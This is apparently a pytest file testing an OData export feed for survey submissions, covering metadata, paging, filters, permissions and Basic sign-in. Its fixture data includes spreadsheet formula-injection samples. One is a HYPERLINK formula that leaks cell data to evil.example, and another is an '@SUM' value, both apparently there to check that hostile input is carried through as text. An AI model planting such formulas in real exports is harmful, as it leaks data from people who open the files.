"""The OData feed through its URLs: service document, $metadata, rows, links, paging, options."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlsplit

from lxml import etree
from sqlalchemy import update

from collect.storage.db import db
from collect.storage.models import Submission
from tests.conftest import make_user
from tests.exports.conftest import KEYS
from tests.helpers import Api
from tests.odata.conftest import CONSULTATION, FORM, Sample, svc

EDM = "{http://docs.oasis-open.org/odata/ns/edm}"
NEWEST_FIRST = [KEYS[4], KEYS[3], KEYS[2], KEYS[1], KEYS[0]]


def get(api: Api, url: str) -> Any:
    response = api.get(url)
    assert response.status_code == 200, (url, response.data[:500])
    return response.get_json()


def local(url: str) -> str:
    """An absolute link from the feed as a path the test client can follow."""
    parts = urlsplit(url)
    return f"{parts.path}?{parts.query}" if parts.query else parts.path


def ids(body: dict[str, Any]) -> list[str]:
    return [row["__id"] for row in body["value"]]


def test_service_document_lists_the_tables(sample: Sample) -> None:
    body = get(sample.viewer, svc(sample.project, FORM))
    assert (
        body["@odata.context"]
        == f"http://localhost/v1/projects/{sample.project}/forms/{FORM}.svc/$metadata"
    )
    assert body["value"] == [
        {"name": "Submissions", "kind": "EntitySet", "url": "Submissions"},
        {"name": "Submissions.member", "kind": "EntitySet", "url": "Submissions.member"},
        {
            "name": "Submissions.member.visit",
            "kind": "EntitySet",
            "url": "Submissions.member.visit",
        },
    ]
    response = sample.viewer.get(svc(sample.project, FORM))
    assert response.headers["Content-Type"].startswith("application/json; odata.metadata=minimal")
    assert response.headers["OData-Version"] == "4.0"


def test_metadata_describes_every_table_with_central_types(sample: Sample) -> None:
    response = sample.viewer.get(svc(sample.project, FORM, "/$metadata"))
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/xml")
    root = etree.fromstring(response.data)
    assert root.tag == "{http://docs.oasis-open.org/odata/ns/edmx}Edmx"
    assert root.get("Version") == "4.0"
    schemas = {s.get("Namespace"): s for s in root.iter(f"{EDM}Schema")}
    ns = f"org.opendatakit.user.{FORM}"
    assert set(schemas) == {"org.opendatakit.submission", ns}
    system = {
        p.get("Name"): p.get("Type")
        for p in schemas["org.opendatakit.submission"].iter(f"{EDM}Property")
    }
    assert system["submissionDate"] == "Edm.DateTimeOffset"
    assert system["reviewState"] == "org.opendatakit.submission.ReviewState"

    def properties(kind: str, name: str) -> dict[str, str]:
        found = [e for e in schemas[ns].iter(f"{EDM}{kind}") if e.get("Name") == name]
        assert len(found) == 1, name
        return {
            p.get("Name") or "": p.get("Type") or ""
            for p in found[0]
            if p.tag in (f"{EDM}Property", f"{EDM}NavigationProperty")
        }

    assert properties("EntityType", "Submissions") == {
        "__id": "Edm.String",
        "__system": "org.opendatakit.submission.metadata",
        "age": "Edm.Int64",
        "household": f"{ns}.household",
        "member": f"Collection({ns}.Submissions.member)",
        "photo": "Edm.String",
        "comment": "Edm.String",
        "score": "Edm.Decimal",
        "interviewed_at": "Edm.DateTimeOffset",
        "follow_up": "Edm.String",
        "meta": f"{ns}.meta",
    }  # respondent and id_photo are sensitive: not in the feed at all
    assert properties("ComplexType", "household") == {
        "head": "Edm.String",
        "barriers": "Edm.String",
        "location": "Edm.GeographyPoint",
    }
    assert properties("EntityType", "Submissions.member") == {
        "__id": "Edm.String",
        "__Submissions-id": "Edm.String",
        "member_name": "Edm.String",
        "member_age": "Edm.Int64",
        "contact": f"{ns}.member.contact",
        "visit": f"Collection({ns}.Submissions.member.visit)",
    }
    assert properties("EntityType", "Submissions.member.visit") == {
        "__id": "Edm.String",
        "__Submissions-member-id": "Edm.String",
        "visit_date": "Edm.Date",
        "visit_done": "Edm.String",
    }
    sets = [s.get("Name") for s in schemas[ns].iter(f"{EDM}EntitySet")]
    assert sets == ["Submissions", "Submissions.member", "Submissions.member.visit"]


def test_submission_rows_have_groups_numbers_points_and_links(sample: Sample) -> None:
    response = sample.viewer.get(svc(sample.project, FORM, "/Submissions"))
    assert response.is_streamed  # rows leave as they are read, whatever their number
    assert response.headers["Content-Type"].startswith("application/json; odata.metadata=minimal")
    body = get(sample.viewer, svc(sample.project, FORM, "/Submissions"))
    assert body["@odata.context"].endswith(f"/forms/{FORM}.svc/$metadata#Submissions")
    assert ids(body) == NEWEST_FIRST
    first = body["value"][-1]
    link = "Submissions('uuid%3A0a1b2c3d-0001-4000-8000-000000000001')/member"
    assert first == {
        "__id": KEYS[0],
        "age": 34,
        "household": {
            "head": "yes",
            "barriers": "distance cost",
            "location": {
                "type": "Point",
                "coordinates": [-1.25, 12.5, 300],
                "properties": {"accuracy": 4.5},
            },
        },
        "member@odata.navigationLink": link,
        "photo": "1704877200001.jpg",
        "comment": '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
        "score": -3.5,
        "interviewed_at": "2024-01-10T11:00:00.000+02:00",
        "follow_up": None,
        "meta": {"instanceID": KEYS[0]},
        "__system": {
            "submissionDate": "2024-01-10T09:00:00.125Z",
            "updatedAt": None,
            "submitterId": str(sample.device["id"]),
            "submitterName": "Enumerator 1",
            "attachmentsPresent": 2,
            "attachmentsExpected": 2,
            "status": None,
            "reviewState": None,
            "deviceId": "collect:Xa3kF9pQ2mZ8vB1c",
            "edits": 0,
            "formVersion": "2024010101",
        },
    }
    by_id = {row["__id"]: row for row in body["value"]}
    # Empty answers are null, an empty group still an object, a row without repeats no link.
    assert by_id[KEYS[1]]["household"]["location"] is None
    assert "member@odata.navigationLink" not in by_id[KEYS[2]]
    # The edit shows under the first instanceID, counted, with its new values.
    assert by_id[KEYS[4]]["age"] == 46
    assert by_id[KEYS[4]]["__system"]["edits"] == 1
    assert by_id[KEYS[4]]["__system"]["formVersion"] == "2024020101"
    assert by_id[KEYS[2]]["__system"]["reviewState"] == "rejected"
    assert by_id[KEYS[2]]["__system"]["updatedAt"] is not None


def test_navigation_links_lead_to_repeat_rows_and_nested_repeats(sample: Sample) -> None:
    base = svc(sample.project, FORM)
    first = get(sample.viewer, f"{base}/Submissions")["value"][-1]
    members = get(sample.viewer, f"{base}/{first['member@odata.navigationLink']}")
    assert members["@odata.context"].endswith("$metadata#Submissions.member")
    assert [m["member_name"] for m in members["value"]] == ["Bob", "Carol"]
    bob = members["value"][0]
    assert bob["__Submissions-id"] == KEYS[0]
    assert bob["member_age"] == 10
    assert bob["contact"] == {}  # phone is sensitive
    assert len(bob["__id"]) == 40
    assert bob["visit@odata.navigationLink"] == (
        f"Submissions('uuid%3A0a1b2c3d-0001-4000-8000-000000000001')/member('{bob['__id']}')/visit"
    )
    assert "visit@odata.navigationLink" not in members["value"][1]
    visits = get(sample.viewer, f"{base}/{bob['visit@odata.navigationLink']}")
    assert [(v["visit_date"], v["visit_done"]) for v in visits["value"]] == [
        ("2024-01-02", "yes"),
        ("2024-01-03", "no"),
    ]
    assert {v["__Submissions-member-id"] for v in visits["value"]} == {bob["__id"]}
    # The whole tables hold the same rows, newest submission first.
    table = get(sample.viewer, f"{base}/Submissions.member")["value"]
    assert [m["member_name"] for m in table] == ["Eve", "Fatou", "@SUM(A1:A9)", "Bob", "Carol"]
    assert table[3] == bob
    all_visits = get(sample.viewer, f"{base}/Submissions.member.visit")["value"]
    assert [v["visit_date"] for v in all_visits] == [
        "2024-02-28",
        "2024-02-29",
        "2024-01-21",
        "2024-01-02",
        "2024-01-03",
    ]
    one = get(sample.viewer, f"{base}/Submissions('{KEYS[0]}')")
    assert ids(one) == [KEYS[0]]


def test_expand_puts_repeats_inline(sample: Sample) -> None:
    body = get(sample.viewer, svc(sample.project, FORM, "/Submissions", "$expand=*"))
    first = body["value"][-1]
    assert [m["member_name"] for m in first["member"]] == ["Bob", "Carol"]
    assert [v["visit_date"] for v in first["member"][0]["visit"]] == ["2024-01-02", "2024-01-03"]
    assert "member@odata.navigationLink" in first
    assert "__Submissions-id" not in first["member"][0]


def test_top_skip_count_and_next_links_page_through_everything(sample: Sample) -> None:
    base = svc(sample.project, FORM, "/Submissions")
    page = get(sample.viewer, f"{base}?$top=2&$count=true")
    assert page["@odata.count"] == 5
    seen = ids(page)
    while "@odata.nextLink" in page:
        assert "$skiptoken=" in page["@odata.nextLink"]
        assert "$top=2" in page["@odata.nextLink"]
        page = get(sample.viewer, local(page["@odata.nextLink"]))
        seen += ids(page)
    assert seen == NEWEST_FIRST
    assert ids(get(sample.viewer, f"{base}?$skip=3&$top=1")) == [KEYS[1]]
    assert ids(get(sample.viewer, f"{base}?$skip=9")) == []
    assert get(sample.viewer, f"{base}?$top=0&$count=true")["@odata.count"] == 5
    # Repeat tables page over their own rows.
    members = svc(sample.project, FORM, "/Submissions.member")
    page = get(sample.viewer, f"{members}?$top=2&$count=True")
    assert page["@odata.count"] == 5
    names = [m["member_name"] for m in page["value"]]
    while "@odata.nextLink" in page:
        page = get(sample.viewer, local(page["@odata.nextLink"]))
        names += [m["member_name"] for m in page["value"]]
    assert names == ["Eve", "Fatou", "@SUM(A1:A9)", "Bob", "Carol"]
    assert sample.viewer.get(f"{base}/$count").data == b"5"
    assert sample.viewer.get(f"{members}/$count").data == b"5"


def test_filters_on_system_columns(sample: Sample) -> None:
    base = svc(sample.project, FORM, "/Submissions")
    cases = {
        "__system/reviewState eq 'rejected'": [KEYS[2]],
        "__system/reviewState eq null": [KEYS[0]],
        "__system/reviewState eq 'edited'": [KEYS[4]],
        "__system/submissionDate gt 2024-02-01T00:00:00Z": [KEYS[4], KEYS[3], KEYS[2]],
        "year(__system/submissionDate) eq 2024 and month(__system/submissionDate) lt 2": [
            KEYS[1],
            KEYS[0],
        ],
        "not (__system/reviewState eq 'approved') and __system/submissionDate lt now()": [
            KEYS[4],
            KEYS[3],
            KEYS[2],
            KEYS[0],
        ],
        f"__system/submitterId eq {sample.device['id']} or __system/reviewState eq 'x'": (
            NEWEST_FIRST
        ),
    }
    for expression, expected in cases.items():
        assert ids(get(sample.viewer, f"{base}?$filter={expression}")) == expected, expression
    counted = get(sample.viewer, f"{base}?$filter=__system/reviewState eq null&$count=true")
    assert counted["@odata.count"] == 1
    # A filter narrows a repeat table to the rows of the matching submissions.
    members = get(
        sample.viewer,
        svc(sample.project, FORM, "/Submissions.member", "$filter=__system/reviewState eq null"),
    )
    assert [m["member_name"] for m in members["value"]] == ["Bob", "Carol"]


def test_select_keeps_the_named_properties(sample: Sample) -> None:
    query = "$select=__id,age,household/location,__system/reviewState"
    row = get(sample.viewer, svc(sample.project, FORM, "/Submissions", query))["value"][-1]
    assert row == {
        "__id": KEYS[0],
        "age": 34,
        "household": {"location": row["household"]["location"]},
        "__system": {"reviewState": None},
    }
    row = get(sample.viewer, svc(sample.project, FORM, "/Submissions", "$select=household"))
    assert set(row["value"][-1]) == {"__id", "household"}
    assert set(row["value"][-1]["household"]) == {"head", "barriers", "location"}
    members = get(
        sample.viewer,
        svc(sample.project, FORM, "/Submissions.member", "$select=member_name,__Submissions-id"),
    )
    assert set(members["value"][0]) == {"__id", "__Submissions-id", "member_name"}
    members = get(
        sample.viewer, svc(sample.project, FORM, "/Submissions.member", "$select=contact")
    )
    assert set(members["value"][0]) == {"__id", "contact"}


def test_wkt_writes_points_as_text(sample: Sample) -> None:
    body = get(sample.viewer, svc(sample.project, FORM, "/Submissions", "$wkt=true"))
    assert body["value"][-1]["household"]["location"] == "POINT (-1.25 12.5 300)"


BAD: tuple[tuple[str, str, int, str], ...] = (
    ("/Submissions", "$filter=age gt 3", 400, "unknown term 'age'"),
    ("/Submissions", "$filter=__system/submissionDate gt", 400, "ends too early"),
    ("/Submissions", "$orderby=__system/submissionDate", 501, "$orderby is not supported"),
    ("/Submissions", "$expand=member", 501, "only $expand=* is"),
    ("/Submissions", "$top=ten", 400, "$top is a whole number"),
    ("/Submissions", "$count=maybe", 400, "$count is true or false"),
    ("/Submissions", "$select=respondent", 400, "Could not find a property named 'respondent'"),
    ("/Submissions", "$select=member/member_name", 400, "inside a repeat"),
    ("/Submissions", "$skiptoken=nonsense", 400, "$skiptoken"),
    ("/Submissions.member", "$skiptoken=01eyJiZWxvdyI6IDN9", 400, "Submissions table only"),
    ("/Submissions.nothing", "", 404, "Tables: Submissions, Submissions.member"),
    ("/Submissions('uuid:nobody')", "", 404, "no submission 'uuid:nobody'"),
    ("/Submissions('uuid:x')/nothing", "", 404, "no table"),
)


def test_bad_requests_say_what_is_supported(sample: Sample) -> None:
    for path, query, status, complaint in BAD:
        response = sample.viewer.get(svc(sample.project, FORM, path, query))
        assert response.status_code == status, (path, query, response.data)
        body = response.get_json()
        assert complaint in body["message"], (path, query, body)
        assert isinstance(body["code"], float)


def test_who_may_read_the_feed(sample: Sample) -> None:
    url = svc(sample.project, FORM, "/Submissions")
    assert sample.viewer.get(url).status_code == 200
    assert sample.manager.get(url).status_code == 200
    anonymous = sample.client.get(url)
    assert anonymous.status_code == 401
    assert anonymous.headers["WWW-Authenticate"].startswith("Basic")
    device = Api(sample.client, sample.device["token"])
    assert device.get(url).status_code == 403
    assert device.get(svc(sample.project, FORM, "/$metadata")).status_code == 403
    _, stranger = make_user(sample.app, sample.client, "stranger@example.org")  # no role here
    for path in ("", "/$metadata", "/Submissions", "/Submissions.member"):
        assert stranger.get(svc(sample.project, FORM, path)).status_code == 404, path
    assert sample.viewer.get(svc(sample.project, "no_such_form")).status_code == 404


def test_excel_and_power_bi_sign_in_with_basic(sample: Sample) -> None:
    sample.viewer  # noqa: B018 - creates viewer@example.org
    url = svc(sample.project, FORM, "/Submissions")

    def basic(credentials: str) -> dict[str, str]:
        return {"Authorization": "Basic " + base64.b64encode(credentials.encode()).decode()}

    good = sample.client.get(url, headers=basic("viewer@example.org:a long password"))
    assert good.status_code == 200
    assert ids(good.get_json()) == NEWEST_FIRST
    bad = sample.client.get(url, headers=basic("viewer@example.org:wrong"))
    assert bad.status_code == 401
    assert bad.headers["WWW-Authenticate"].startswith("Basic")
    # Basic is for reading the feed only, never for changing anything.
    change = sample.client.post(
        f"/v1/projects/{sample.project}/app-users",
        json={"displayName": "x"},
        headers=basic("admin@example.org:correct horse battery"),
    )
    assert change.status_code == 401


def test_deleted_submissions_are_not_in_the_feed(sample: Sample) -> None:
    with sample.app.app_context():
        db.session.execute(
            update(Submission)
            .where(Submission.instance_id == KEYS[0])
            .values(deleted_at=datetime.now(UTC))
        )
        db.session.commit()
    base = svc(sample.project, FORM)
    body = get(sample.viewer, f"{base}/Submissions?$count=true")
    assert ids(body) == NEWEST_FIRST[:-1]
    assert body["@odata.count"] == 4
    names = [m["member_name"] for m in get(sample.viewer, f"{base}/Submissions.member")["value"]]
    assert names == ["Eve", "Fatou", "@SUM(A1:A9)"]
    assert sample.viewer.get(f"{base}/Submissions('{KEYS[0]}')").status_code == 404


def test_a_sample_form_from_forms(admin: Api, consultation: int) -> None:
    base = svc(consultation, CONSULTATION)
    service = get(admin, base)
    assert [t["name"] for t in service["value"]] == ["Submissions", "Submissions.recommendation"]
    rows = get(admin, f"{base}/Submissions?$expand=*")["value"]
    assert [r["__id"] for r in rows] == ["uuid:c-2", "uuid:c-1"]
    second, first = rows
    assert first["women"] == 12
    assert first["total"] == 21
    assert first["session_date"] == "2026-03-02"
    assert first["start"] == "2026-03-02T09:00:00.000+01:00"  # Collect's "+01", completed
    assert first["location"] == {
        "type": "Point",
        "coordinates": [-17.4, 14.7, 5],
        "properties": {"accuracy": 3},
    }
    assert [r["theme"] for r in first["recommendation"]] == ["access", "budget"]
    assert second["location"] is None
    assert "recommendation" not in second
    table = get(admin, f"{base}/Submissions.recommendation")["value"]
    assert [(r["__Submissions-id"], r["recommendation_text"]) for r in table] == [
        ("uuid:c-1", "Open the registry"),
        ("uuid:c-1", "Fund it"),
    ]
    metadata = etree.fromstring(admin.get(f"{base}/$metadata").data)
    types = {
        p.get("Name"): p.get("Type")
        for e in metadata.iter(f"{EDM}EntityType")
        if e.get("Name") == "Submissions"
        for p in e
    }
    assert types["location"] == "Edm.GeographyPoint"
    assert types["women"] == "Edm.Int64"
    assert types["session_date"] == "Edm.Date"
    assert types["start"] == "Edm.DateTimeOffset"
